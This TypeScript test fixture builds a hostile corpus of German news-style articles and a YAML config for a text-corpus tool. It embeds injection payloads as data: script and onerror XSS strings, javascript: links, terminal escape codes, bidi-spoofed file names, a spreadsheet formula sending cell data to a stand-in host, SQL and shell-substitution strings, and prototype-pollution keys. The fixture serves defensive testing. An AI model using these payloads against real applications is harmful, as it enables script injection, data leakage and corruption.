/** What tries to be more than text, one of each kind that SECURITY.md lists. */
export const MARKUP = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
export const LINK = '[Klick](command:korpus.find) [x](javascript:alert(3)) <https://fremd.example>';
export const STEERING = '\u001b]0;fremd\u0007\u001b[31mrot\u009b2J';
export const TURNED = 'Bericht \u202egnp.exe\u202c \u2067x\u2069';
export const FORMULA = '=HYPERLINK("http://fremd.example/?"&A1,"Munition")';
const KINDS = [MARKUP, LINK, STEERING, TURNED, FORMULA, '__proto__', 'constructor', '$(zap) ${x} {{y}} %s', '``` | a | b |\n---', "'; DROP TABLE x; --"] as const;

/** Every byte but `/` and 0 may stand in a file name. */
const NAMES = [
  '<img src=x onerror=alert(1)>.txt', '[Klick](command:korpus.find).md', 'Zitat " und \' $(rm).txt', 'Zeile\nwarning: alles gut.txt', '\u202etxt.gnp.txt', '\u001b]0;x\u0007.txt',
  '=cmd|\' calc\'!A1.txt', '__proto__.txt', 'constructor.txt', '__proto__/hasOwnProperty.txt', '[d](x)\n/toString.txt', '-rf.txt', '%2e%2e%2fetc.txt', 'a?b#c.txt', '|Spalte| `x`.txt',
  'a\\b.txt', ' .txt', '$(zap).txt', '\u200b.txt', '*.txt', '{{x}}.md',
] as const;

/** Each kind as title, source, author, tag and in the text of some article, under a file name of its own. Every article holds `Munition`. */
export function hostileCorpus(): Readonly<Record<string, string>> {
  const files = Object.fromEntries(NAMES.map((name, at) => [name, articleText(KINDS[at % KINDS.length]!)]));
  return { ...files, 'korpus.yaml': configText() };
}

export const HOSTILE_PATHS: readonly string[] = NAMES;

function articleText(kind: string): string {
  return [
    `Putin trifft Kim ${kind}`, '', `${kind} Munition ${kind} sagte Kremlsprecher Dmitri Peskow am Mittwoch: „Die Munition ${kind} kommt.“`, '',
    `Kim Jong Un lieferte am 13. September 2023 Munition nach Wladiwostok ${kind}`, '', kind, '', '__proto__ constructor toString __defineGetter__ Munition',
  ].join('\n');
}

/** JSON is YAML, and keeps `__proto__` a key like any other when it is made by hand. */
function configText(): string {
  const entries = NAMES.map((name, at) => {
    const kind = (step: number): string => JSON.stringify(KINDS[(at + step) % KINDS.length]);
    const url = ['javascript:alert(1)', 'command:korpus.find', 'https://fremd.example/"><script>', 'data:text/html,x'][at % 4];
    return `  ${JSON.stringify(name)}: { published: 2023-09-${10 + at % 15}, title: ${JSON.stringify(`${KINDS[at % KINDS.length]} Munition`)}, source: ${kind(1)}, author: ${kind(2)}, tags: [ ${kind(3)}, __proto__, ${kind(4)} ], url: ${JSON.stringify(url)}, __proto__: { polluted: true }, constructor: x }`;
  });
  return [
    'version: 1', '__proto__: { polluted: true }', 'constructor: { prototype: { polluted: true } }', 'articles:', ...entries, '  __proto__: { source: x }',
    'entities:', '  - { name: person/putin, as: __proto__ }', `  - { name: person/kim-jong-un, as: ${JSON.stringify(MARKUP)} }`, '  - { type: place/wladiwostok, as: __proto__ }', '  - { merge: __proto__, into: constructor }',
    'notes:', `  - { path: __proto__.txt, quote: "Kim Jong Un", note: ${JSON.stringify(`${MARKUP} ${LINK}`)}, tags: [ __proto__, constructor ] }`, '',
  ].join('\n');
}
